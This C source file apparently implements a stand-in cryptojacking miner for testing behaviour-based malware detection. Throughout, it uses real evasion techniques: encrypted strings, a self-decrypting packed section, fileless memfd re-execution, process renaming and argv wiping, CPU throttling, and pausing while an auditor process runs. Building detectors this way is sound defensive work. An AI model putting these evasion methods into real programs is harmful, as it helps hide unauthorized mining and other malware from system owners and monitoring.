/* A stand-in CPU miner in C, for tests of behaviour-based detection (issue 11).

   What a real cryptojacking dropper does, and nothing more:
   * its identifying strings (pool URL, wallet, algorithm names, Stratum method names, user agent) are
     XOR-encrypted in the binary (cminer_secrets.h, written by tests/standin/cbuild.py) and decoded only in
     heap memory at run time: `strings` on the file finds none of them;
   * it burns CPU in a real memory-hard loop (random reads and writes over a 2 MiB scratchpad per hashing
     thread, CryptoNight/RandomX style);
   * it speaks Stratum (JSON-RPC login, then submit) to the pool, over TLS with --tls (OpenSSL; the
     loopback pool's self-signed certificate is not verified, as miners do not verify pools);
   * options: --name NAME (prctl PR_SET_NAME), --blank-argv (wipe argv; only NAME is left in it),
     --throttle PCT (duty cycle: ~PCT% of a core per thread), --pause-on-agent[=MARK] (stop hashing while a
     process named like the auditor runs; with MARK, only one whose command line also holds MARK, so a test on
     a shared host reacts to its own audit only), --memfd (re-exec itself from an anonymous memfd via fexecve),
     --randomx (RandomX light-mode layout: a 256 MiB cache, MAP_HUGETLB when available),
     --scratchpad KIB (each hashing thread's scratchpad: 2048 by default as CryptoNight and rx/0; 256 is
     cn-pico, 1024 cn-lite, 4096 cn-heavy, 512 argon2/chukwa), --threads N, --seconds S.
   The pool defaults to the one compiled in; CMINER_POOL=host:port overrides it (tests in namespaces).
   It prints "ready" once the pool accepted the login.

   CLI is stable: other tests (network namespaces, issue 11b) build and run it through cbuild.py. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netdb.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "cminer_secrets.h"     /* SECRET_KEY, the SEC_* ids and their encrypted bytes */

#ifndef MAP_HUGETLB
#define MAP_HUGETLB 0x40000
#endif

#define SCRATCHPAD_BYTES (2u * 1024 * 1024)         /* RANDOMX_SCRATCHPAD_L3 */
#define RX_CACHE_BYTES (256u * 1024 * 1024)         /* RANDOMX_ARGON_MEMORY * 1024 */
#define HUGE_PAGE (2u * 1024 * 1024)
#define MAX_THREADS 64

extern char **environ;

/* Self-packing (tests/standin/cbuild.py --pack): every function but main and unpack() lives in the section
   pk_text, which the packer encrypts on disk with a xorshift keystream and stamps with the key below;
   main decrypts it in memory before anything else runs, as a crypter's stub does. */
#define PK __attribute__((section("pk_text")))
extern char __start_pk_text[], __stop_pk_text[];
volatile uint32_t pk_stamp[2] = {0x4b50434du, 0};   /* marker, key (0: not packed) */

static volatile int paused;
static volatile int stopping;
static int throttle_pct = 100;
static uint8_t *rx_cache;
static size_t rx_cache_used;
static volatile uint64_t shares;
static const char *auditor_mark;        /* --pause-on-agent=MARK: only an auditor whose command line has MARK */

/* ------------------------------------------------------------------ strings decoded only in memory */

PK static char *secret(int id) {
    const struct sec *s = &SECRETS[id];
    char *out = malloc(s->len + 1);
    uint32_t x = SECRET_KEY ^ (uint32_t)(id * 0x9e3779b9u);
    for (size_t i = 0; i < s->len; i++) {
        x ^= x << 13; x ^= x >> 17; x ^= x << 5;        /* xorshift32 keystream, mirrored in cbuild.py */
        out[i] = (char)(s->bytes[i] ^ (uint8_t)x);
    }
    out[s->len] = 0;
    return out;                                          /* kept for the life of the process, like a config */
}

/* ------------------------------------------------------------------ the memory-hard hash */

PK static uint64_t mix(uint64_t z) {
    z += 0x9e3779b97f4a7c15ull;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

PK static void *map_memory(size_t bytes) {
    void *p = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
    if (p == MAP_FAILED) {      /* no huge pages reserved: plain pages, asking for transparent huge pages */
        p = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED)
            return NULL;
        madvise(p, bytes, MADV_HUGEPAGE);
    }
    return p;
}

PK static uint64_t hash_once(uint64_t *pad, size_t words, uint64_t nonce) {
    uint64_t a = mix(nonce), b = mix(a);
    for (size_t i = 0; i < words; i += 8)
        pad[i] = a = mix(a + i);
    for (int i = 0; i < 1 << 15; i++) {            /* random, data-dependent reads and writes */
        size_t at = (size_t)(a % words);
        uint64_t v = pad[at];
        if (rx_cache_used)
            v ^= ((uint64_t *)rx_cache)[(b >> 3) % (rx_cache_used / 8)];
        b = mix(b ^ v);
        pad[at] = a ^ b;
        a = mix(a + v);
    }
    return a ^ b;
}

PK static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

PK static void sleep_for(double seconds) {
    struct timespec ts = {(time_t)seconds, (long)((seconds - (time_t)seconds) * 1e9)};
    nanosleep(&ts, NULL);
}

static size_t scratchpad_bytes = SCRATCHPAD_BYTES;

PK static void *worker(void *arg) {
    uint64_t *pad = map_memory(scratchpad_bytes);
    uint64_t nonce = (uint64_t)(uintptr_t)arg << 40;
    if (!pad)
        return NULL;
    while (!stopping) {
        if (paused) {
            sleep_for(0.05);
            continue;
        }
        double start = now();
        while (now() - start < 0.02)
            if ((hash_once(pad, scratchpad_bytes / 8, nonce++) & 0xffff) == 0)
                __atomic_add_fetch(&shares, 1, __ATOMIC_RELAXED);
        if (throttle_pct < 100)                /* duty cycle: 20 ms of work, then rest in proportion */
            sleep_for((now() - start) * (100 - throttle_pct) / throttle_pct);
    }
    return NULL;
}

/* ------------------------------------------------------------------ pause while the auditor runs */

PK static int auditor_running(void) {
    char *needle1 = secret(SEC_AUDITOR1), *needle2 = secret(SEC_AUDITOR2);
    int found = 0;
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    char path[64], buf[4096];
    while (proc && !found && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid())
            continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        for (ssize_t i = 0; i < n; i++)
            if (buf[i] == 0) buf[i] = ' ';
        buf[n > 0 ? n : 0] = 0;
        found = (strstr(buf, needle1) != NULL || strstr(buf, needle2) != NULL)
                && (!auditor_mark || strstr(buf, auditor_mark) != NULL);
    }
    if (proc)
        closedir(proc);
    free(needle1);
    free(needle2);
    return found;
}

PK static void *watch_auditor(void *unused) {
    (void)unused;
    while (!stopping) {
        paused = auditor_running();
        sleep_for(0.5);
    }
    return NULL;
}

/* ------------------------------------------------------------------ Stratum over TCP or TLS */

struct conn {
    int fd;
    SSL *ssl;
    char buf[8192];
    size_t have;
};

PK static int conn_write(struct conn *c, const char *text) {
    size_t len = strlen(text);
    if (c->ssl)
        return SSL_write(c->ssl, text, (int)len) == (int)len ? 0 : -1;
    return write(c->fd, text, len) == (ssize_t)len ? 0 : -1;
}

PK static int conn_readline(struct conn *c) {       /* one line into c->buf; -1 on EOF or error */
    c->have = 0;
    while (c->have < sizeof c->buf - 1) {
        char ch;
        int n = c->ssl ? SSL_read(c->ssl, &ch, 1) : (int)read(c->fd, &ch, 1);
        if (n <= 0)
            return -1;
        if (ch == '\n')
            break;
        c->buf[c->have++] = ch;
    }
    c->buf[c->have] = 0;
    return 0;
}

PK static int dial(struct conn *c, const char *host, const char *port, int tls) {
    struct addrinfo hints = {0}, *res;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    c->fd = socket(res->ai_family, SOCK_STREAM, 0);
    if (c->fd < 0 || connect(c->fd, res->ai_addr, res->ai_addrlen) != 0) {
        freeaddrinfo(res);
        return -1;
    }
    freeaddrinfo(res);
    c->ssl = NULL;
    if (tls) {
        SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
        SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL);
        c->ssl = SSL_new(ctx);
        SSL_set_fd(c->ssl, c->fd);
        SSL_set_tlsext_host_name(c->ssl, host);
        if (SSL_connect(c->ssl) != 1)
            return -1;
    }
    return 0;
}

/* ------------------------------------------------------------------ disguises */

PK static void run_from_memfd(char **argv) {
    char self[256];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n > 0) {
        self[n] = 0;
        if (strncmp(self, "/memfd:", 7) == 0)
            return;                                   /* already running from memory */
    }
    int in = open("/proc/self/exe", O_RDONLY);
    int out = (int)syscall(SYS_memfd_create, "", 0);
    if (in < 0 || out < 0)
        return;
    char chunk[65536];
    while ((n = read(in, chunk, sizeof chunk)) > 0)
        if (write(out, chunk, (size_t)n) != n)
            return;
    close(in);
    fexecve(out, argv, environ);                      /* same pid; /proc/PID/exe becomes "/memfd: (deleted)" */
}

PK static void blank_argv(int argc, char **argv, const char *name) {
    char *start = argv[0], *end = argv[argc - 1] + strlen(argv[argc - 1]);
    memset(start, 0, (size_t)(end - start));
    if (name)
        strncpy(start, name, (size_t)(end - start));
}

/* ------------------------------------------------------------------ main */

PK __attribute__((noinline)) static int real_main(int argc, char **argv) {
    static struct option options[] = {
        {"tls", no_argument, 0, 't'}, {"name", required_argument, 0, 'n'}, {"blank-argv", no_argument, 0, 'b'},
        {"throttle", required_argument, 0, 'T'}, {"pause-on-agent", optional_argument, 0, 'P'},
        {"memfd", no_argument, 0, 'm'}, {"randomx", no_argument, 0, 'r'}, {"threads", required_argument, 0, 'j'},
        {"seconds", required_argument, 0, 's'}, {"scratchpad", required_argument, 0, 'S'}, {0, 0, 0, 0}};
    int tls = 0, blank = 0, pause_on_agent = 0, memfd = 0, randomx = 0, threads = 1, opt;
    double seconds = 600;
    const char *name = NULL;
    while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
        switch (opt) {
        case 't': tls = 1; break;
        case 'n': name = strdup(optarg); break;     /* optarg points into argv, which may be blanked */
        case 'b': blank = 1; break;
        case 'T': throttle_pct = atoi(optarg); break;
        case 'P': pause_on_agent = 1; auditor_mark = optarg ? strdup(optarg) : NULL; break;
        case 'm': memfd = 1; break;
        case 'r': randomx = 1; break;
        case 'j': threads = atoi(optarg); break;
        case 's': seconds = atof(optarg); break;
        case 'S': scratchpad_bytes = (size_t)atol(optarg) * 1024; break;
        default: fprintf(stderr, "usage: cminer [--tls] [--name N] [--blank-argv] [--throttle PCT] "
                                 "[--pause-on-agent[=MARK]] [--memfd] [--randomx] [--scratchpad KIB] [--threads N] "
                                 "[--seconds S]\n");
            return 2;
        }
    }
    if (throttle_pct < 1 || throttle_pct > 100 || threads < 1 || threads > MAX_THREADS ||
        scratchpad_bytes < 64 * 1024 || scratchpad_bytes > 64u * 1024 * 1024)
        return 2;
    if (memfd)
        run_from_memfd(argv);
    if (name)
        prctl(PR_SET_NAME, name, 0, 0, 0);
    if (blank)
        blank_argv(argc, argv, name);
    signal(SIGPIPE, SIG_IGN);

    char *host = secret(SEC_HOST), *port = secret(SEC_PORT);
    const char *override = getenv("CMINER_POOL");
    if (override && strchr(override, ':')) {
        host = strdup(override);
        port = strrchr(host, ':');
        *port++ = 0;
    }
    char *scheme = secret(tls ? SEC_SCHEME_TLS : SEC_SCHEME_TCP);
    char *url = malloc(strlen(scheme) + strlen(host) + strlen(port) + 2);
    sprintf(url, "%s%s:%s", scheme, host, port);      /* the pool URL, as a miner keeps it in its config */
    char *wallet = secret(SEC_WALLET), *agent = secret(SEC_AGENT), *algos = secret(SEC_ALGOS);
    char *login_fmt = secret(SEC_LOGIN), *submit_fmt = secret(SEC_SUBMIT);

    if (randomx) {
        rx_cache = map_memory(RX_CACHE_BYTES);
        if (rx_cache) {                               /* fill part of it: enough to read from while hashing */
            rx_cache_used = 16u * 1024 * 1024;
            for (size_t i = 0; i < rx_cache_used / 8; i++)
                ((uint64_t *)rx_cache)[i] = mix(i);
        }
    }

    struct conn c;
    if (dial(&c, host, port, tls) != 0) {
        fprintf(stderr, "cannot reach the pool\n");
        return 1;
    }
    char line[2048];
    snprintf(line, sizeof line, login_fmt, wallet, agent, algos);
    if (conn_write(&c, line) != 0 || conn_readline(&c) != 0) {
        fprintf(stderr, "login failed\n");
        return 1;
    }
    pthread_t ids[MAX_THREADS + 1];
    for (int i = 0; i < threads; i++)
        pthread_create(&ids[i], NULL, worker, (void *)(uintptr_t)i);
    if (pause_on_agent)
        pthread_create(&ids[threads], NULL, watch_auditor, NULL);
    printf("ready\n");
    fflush(stdout);

    double deadline = now() + seconds, last = now();
    uint64_t sent = 0;
    while (now() < deadline) {
        sleep_for(0.2);
        if (now() - last < 2)
            continue;
        last = now();
        snprintf(line, sizeof line, submit_fmt, (unsigned long long)++sent, (unsigned long long)shares);
        if (conn_write(&c, line) != 0 || conn_readline(&c) != 0)
            break;
    }
    stopping = 1;
    return 0;
}

static void unpack(void) {
    uint32_t x = pk_stamp[1];
    if (!x)
        return;
    uintptr_t page = (uintptr_t)sysconf(_SC_PAGESIZE);
    uintptr_t from = (uintptr_t)__start_pk_text & ~(page - 1), to = (uintptr_t)__stop_pk_text;
    if (mprotect((void *)from, to - from, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
        _exit(3);
    for (char *p = __start_pk_text; p < __stop_pk_text; p++) {
        x ^= x << 13; x ^= x >> 17; x ^= x << 5;
        *p ^= (char)(uint8_t)x;
    }
    mprotect((void *)from, to - from, PROT_READ | PROT_EXEC);
}

int main(int argc, char **argv) {
    unpack();
    return real_main(argc, argv);
}
